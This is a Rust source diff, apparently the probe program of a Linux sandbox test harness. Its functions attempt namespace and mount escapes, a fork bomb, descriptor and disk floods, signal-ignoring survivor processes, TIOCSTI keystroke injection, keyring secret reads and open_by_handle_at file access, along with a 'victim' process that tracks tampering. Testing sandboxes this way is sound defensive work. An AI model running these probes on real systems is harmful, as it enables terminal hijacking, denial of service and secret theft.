+            detach_stdio();
+            linger();
+        }
+        libc::_exit(1);
+    }
+    let mut st = 0;
+    libc::waitpid(pid, &mut st, 0);
+    1
+}
+
+unsafe fn userns(mode: &str) -> i32 {
+    let mk = |p: &str| {
+        let _ = std::fs::create_dir_all(p);
+    };
+    let token = std::env::args().find(|a| a.starts_with("lgtok")).unwrap_or_default();
+    let src = c(&format!("lgmnt-{token}"));
+    let tmpfs = c"tmpfs";
+    match mode {
+        "unshare-mount" => in_child_linger_on_success("unshare(NEWUSER|NEWNS) + mount tmpfs", || {
+            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
+                return false;
+            }
+            let r = libc::mount(src.as_ptr(), c"/tmp".as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
+            say(&format!("mount tmpfs: {}", if r == 0 { "ok".into() } else { errno().to_string() }));
+            true
+        }),
+        "clone-nested" => in_child_linger_on_success("clone(NEWUSER) + nested unshare(NEWUSER)", || {
+            let pid = libc::syscall(libc::SYS_clone, (libc::CLONE_NEWUSER | libc::SIGCHLD) as u64, 0usize, 0usize, 0usize, 0usize);
+            if pid < 0 {
+                return false;
+            }
+            if pid == 0 {
+                let r = libc::unshare(libc::CLONE_NEWUSER);
+                say(&format!("nested unshare: {}", if r == 0 { "ok".into() } else { errno().to_string() }));
+                detach_stdio();
+                linger();
+            }
+            true
+        }),
+        "clone3" => in_child_linger_on_success("clone3(CLONE_NEWUSER)", || {
+            let mut args = [0u64; 11];
+            args[0] = libc::CLONE_NEWUSER as u64;
+            args[4] = libc::SIGCHLD as u64;
+            let pid = libc::syscall(435, args.as_mut_ptr(), 88usize);
+            if pid < 0 {
+                return false;
+            }
+            if pid == 0 {
+                detach_stdio();
+                linger();
+            }
+            true
+        }),
+        "pivot-root" => in_child_linger_on_success("unshare + pivot_root", || {
+            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
+                return false;
+            }
+            let root = format!("/tmp/{token}-root");
+            mk(&root);
+            let r = libc::mount(src.as_ptr(), c(&root).as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
+            mk(&format!("{root}/old"));
+            let p = libc::syscall(libc::SYS_pivot_root, c(&root).as_ptr(), c(&format!("{root}/old")).as_ptr());
+            say(&format!("mount {r}, pivot_root {p}"));
+            true
+        }),
+        "open-tree" => in_child_linger_on_success("unshare + open_tree + move_mount", || {
+            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
+                return false;
+            }
+            let t = format!("/tmp/{token}-tree");
+            mk(&t);
+            let r = libc::mount(src.as_ptr(), c(&t).as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
+            let fd = libc::syscall(428, libc::AT_FDCWD, c(&t).as_ptr(), 1u32 /* OPEN_TREE_CLONE */);
+            let m = libc::syscall(429, fd, c"".as_ptr(), libc::AT_FDCWD, c"/tmp".as_ptr(), 4u32 /* F_EMPTY_PATH */);
+            say(&format!("mount {r}, open_tree {fd}, move_mount {m}"));
+            true
+        }),
+        _ => 2,
+    }
+}
+
+unsafe fn fork_bomb(n: u32) -> i32 {
+    let mut made = 0;
+    for _ in 0..n {
+        let pid = libc::fork();
+        if pid == 0 {
+            detach_stdio();
+            linger();
+        }
+        if pid < 0 {
+            break;
+        }
+        made += 1;
+    }
+    say(&format!("forked {made} of {n}"));
+    linger();
+}
+
+unsafe fn survivor(mode: &str) -> i32 {
+    let pid = libc::fork();
+    if pid == 0 {
+        detach_stdio();
+        libc::signal(libc::SIGHUP, libc::SIG_IGN);
+        libc::signal(libc::SIGTERM, libc::SIG_IGN);
+        libc::signal(libc::SIGINT, libc::SIG_IGN);
+        match mode {
+            "double-fork" | "double-fork-timeout" => {
+                libc::setsid();
+                if libc::fork() != 0 {
+                    libc::_exit(0);
+                }
+            }
+            _ => {
+                libc::setsid();
+            }
+        }
+        linger();
+    }
+    say(&format!("survivor {mode}: child {pid}"));
+    if mode.ends_with("timeout") {
+        linger();
+    }
+    let mut st = 0;
+    if mode.starts_with("double-fork") {
+        libc::waitpid(pid, &mut st, 0);
+    }
+    0
+}
+
+unsafe fn open_fds(n: u32) -> i32 {
+    let mut rl = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
+    libc::getrlimit(libc::RLIMIT_NOFILE, &mut rl);
+    rl.rlim_cur = rl.rlim_max;
+    libc::setrlimit(libc::RLIMIT_NOFILE, &rl);
+    let mut opened = 0;
+    for _ in 0..n {
+        if libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY) < 0 {
+            break;
+        }
+        opened += 1;
+    }
+    say(&format!("opened {opened} of {n}"));
+    detach_stdio();
+    linger();
+}
+
+unsafe fn core_dump() -> i32 {
+    let mut rl = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
+    libc::getrlimit(libc::RLIMIT_CORE, &mut rl);
+    rl.rlim_cur = rl.rlim_max;
+    libc::setrlimit(libc::RLIMIT_CORE, &rl);
+    libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
+    say(&format!("RLIMIT_CORE = {}", rl.rlim_cur));
+    libc::signal(libc::SIGSEGV, libc::SIG_DFL);
+    libc::raise(libc::SIGSEGV);
+    1
+}
+
+fn write_flood(bytes: u64) -> i32 {
+    let chunk = vec![b'A'; 65536];
+    let mut left = bytes;
+    let mut o = std::io::stdout().lock();
+    while left > 0 {
+        let n = left.min(chunk.len() as u64) as usize;
+        if o.write_all(&chunk[..n]).is_err() {
+            return 1;
+        }
+        left -= n as u64;
+    }
+    let _ = o.flush();
+    0
+}
+
+unsafe fn write_big(path: &str, bytes: u64) -> i32 {
+    libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
+    let fd = libc::open(c(path).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC, 0o644);
+    if fd < 0 {
+        return result(false, "open");
+    }
+    let chunk = vec![0u8; 1 << 20];
+    let mut written: u64 = 0;
+    while written < bytes {
+        let n = libc::write(fd, chunk.as_ptr().cast(), chunk.len());
+        if n <= 0 {
+            say(&format!("write stopped at {written}: {}", errno()));
+            return 1;
+        }
+        written += n as u64;
+    }
+    say(&format!("wrote {written}"));
+    0
+}
+
+unsafe fn tiocsti(pty: &str, text: &str, high_bits: bool) -> i32 {
+    let pid = libc::fork();
+    if pid == 0 {
+        libc::setsid();
+        let fd = libc::open(c(pty).as_ptr(), libc::O_RDWR);
+        if fd < 0 {
+            say(&format!("open {pty}: {}", errno()));
+            libc::_exit(1);
+        }
+        let req: u64 = if high_bits { 0xffff_ffff_0000_0000 | 0x5412 } else { 0x5412 };
+        let mut ok = true;
+        for b in text.bytes() {
+            if libc::syscall(libc::SYS_ioctl, fd, req, &b as *const u8) != 0 {
+                ok = false;
+                break;
+            }
+        }
+        libc::_exit(result(ok, "ioctl(TIOCSTI)"));
+    }
+    let mut st = 0;
+    libc::waitpid(pid, &mut st, 0);
+    libc::WEXITSTATUS(st)
+}
+
+unsafe fn tioclinux_kmsg(console: u8, high_bits: bool) -> i32 {
+    let fd = libc::open(c"/dev/tty0".as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
+    if fd < 0 {
+        return result(false, "open /dev/tty0");
+    }
+    let buf = [11u8 /* TIOCL_SETKMSGREDIRECT */, console];
+    let req: u64 = if high_bits { 0xffff_ffff_0000_0000 | 0x541C } else { 0x541C };
+    result(libc::syscall(libc::SYS_ioctl, fd, req, buf.as_ptr()) == 0, "ioctl(TIOCLINUX, SETKMSGREDIRECT)")
+}
+
+unsafe fn keyring_read(desc: &str) -> i32 {
+    let id = libc::syscall(libc::SYS_keyctl, 10 /* SEARCH */, -4i64 /* USER */, c"user".as_ptr(), c(desc).as_ptr(), 0);
+    if id < 0 {
+        return result(false, "keyctl(KEYCTL_SEARCH)");
+    }
+    let mut buf = [0u8; 256];
+    let n = libc::syscall(libc::SYS_keyctl, 11 /* READ */, id, buf.as_mut_ptr(), buf.len());
+    if n > 0 {
+        say(&format!("key: {}", String::from_utf8_lossy(&buf[..(n as usize).min(256)])));
+    }
+    result(n > 0, "keyctl(KEYCTL_READ)")
+}
+
+unsafe fn open_by_handle(path: &str, mount_dir: &str) -> i32 {
+    #[repr(C)]
+    struct Fh { bytes: u32, ty: i32, h: [u8; 128] }
+    let mut fh = Fh { bytes: 128, ty: 0, h: [0; 128] };
+    let mut mount_id = 0i32;
+    if libc::syscall(libc::SYS_name_to_handle_at, libc::AT_FDCWD, c(path).as_ptr(), &mut fh as *mut Fh, &mut mount_id as *mut i32, 0) != 0 {
+        return result(false, "name_to_handle_at");
+    }
+    let mfd = libc::open(c(mount_dir).as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
+    let fd = libc::syscall(libc::SYS_open_by_handle_at, mfd, &mut fh as *mut Fh, libc::O_RDONLY) as i32;
+    if fd < 0 {
+        return result(false, "open_by_handle_at");
+    }
+    let mut buf = [0u8; 4096];
+    let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
+    if n > 0 {
+        say(&format!("read by handle: {}", String::from_utf8_lossy(&buf[..n as usize])));
+    }
+    result(n > 0, "read by handle")
+}
+
+// ---------------------------------------------------------------------------------------------
+// The victim: an unsandboxed ancestor of the command, standing for the runner, the supervisor
+// and any other same-uid process outside. It watches its own memory and records signals.
+// ---------------------------------------------------------------------------------------------
+
+static SIGNALS: AtomicU32 = AtomicU32::new(0);
+
+extern "C" fn on_signal(sig: libc::c_int) {
+    SIGNALS.fetch_or(1 << (sig as u32 & 31), Ordering::SeqCst);
+}
+
+/// Marker the victim keeps in memory (probes overwrite its first 8 bytes).
+pub const VICTIM_MARKER: &[u8; 32] = b"LGVICTIM-INTACT-0123456789abcdef";
+
+/// `__victim STATUS_FILE -- CMD…`: runs CMD (with `@VICTIM_*@` substituted) as its child,
+/// watches its marker, and writes `tampered=<0|1> signals=<mask>` to STATUS_FILE when CMD ends.
+/// Environment: `LG_VICTIM_API_TOKEN` holds the secret it keeps in memory.
+#[must_use]
+pub fn victim_main(args: &[String]) -> i32 {
+    let Some(status_file) = args.first() else { return 2 };
+    let cmd: Vec<String> = args.iter().skip_while(|a| *a != "--").skip(1).cloned().collect();
+    if cmd.is_empty() {
+        return 2;
+    }
+    let marker: Box<[u8; 32]> = Box::new(*VICTIM_MARKER);
+    let secret = std::env::var("LG_VICTIM_API_TOKEN").unwrap_or_default();
+    let mut secret_buf = Box::new([0u8; 64]);
+    for (i, b) in secret.bytes().take(63).enumerate() {
+        secret_buf[i] = b;
+    }
+    // SAFETY: plain syscalls on this process.
+    unsafe {
+        libc::prctl(libc::PR_SET_PTRACER, libc::PR_SET_PTRACER_ANY, 0, 0, 0);
+        libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
+        for sig in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP, libc::SIGUSR1, libc::SIGUSR2, libc::SIGQUIT] {
+            libc::signal(sig, on_signal as *const () as libc::sighandler_t);
+        }
+    }
+    let me = std::process::id().to_string();
+    let maddr = (marker.as_ptr() as usize).to_string();
+    let saddr = (secret_buf.as_ptr() as usize).to_string();
+    let argv: Vec<String> = cmd
+        .iter()
+        .map(|a| a.replace("@VICTIM_PID@", &me).replace("@VICTIM_MARKER@", &maddr).replace("@VICTIM_SECRET@", &saddr))
+        .collect();
+    let mut child = match std::process::Command::new(&argv[0]).args(&argv[1..]).spawn() {
+        Ok(c) => c,
+        Err(e) => {
+            eprintln!("victim: spawn {}: {e}", argv[0]);
+            return 2;
+        }
+    };
+    let mut tampered = false;
+    let code = loop {
+        // SAFETY: volatile read of our own heap buffer that another process may write.
+        let now: [u8; 32] = unsafe { std::ptr::read_volatile(marker.as_ptr().cast::<[u8; 32]>()) };
+        tampered |= &now != VICTIM_MARKER;
+        match child.try_wait() {
+            Ok(Some(st)) => {
+                use std::os::unix::process::ExitStatusExt;
+                break st.code().unwrap_or_else(|| 128 + st.signal().unwrap_or(0));
+            }
+            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(2)),
+            Err(_) => break 125,
+        }
+    };
+    // SAFETY: as above.
+    let now: [u8; 32] = unsafe { std::ptr::read_volatile(marker.as_ptr().cast::<[u8; 32]>()) };
+    tampered |= &now != VICTIM_MARKER;
+    let _ = std::fs::write(status_file, format!("tampered={} signals={}\n", u8::from(tampered), SIGNALS.load(Ordering::SeqCst)));
+    std::hint::black_box(&secret_buf);
+    code
+}
+
+/// i386 `getpid` through `int 0x80` (precondition check for the ia32 vectors).
+///
+/// # Safety
+/// Raw system call; may fault where IA32 emulation is disabled (call it in a child).
+#[must_use]
+pub unsafe fn int80_getpid() -> i32 {
+    ia32::int80(20, 0, 0, 0)
+}
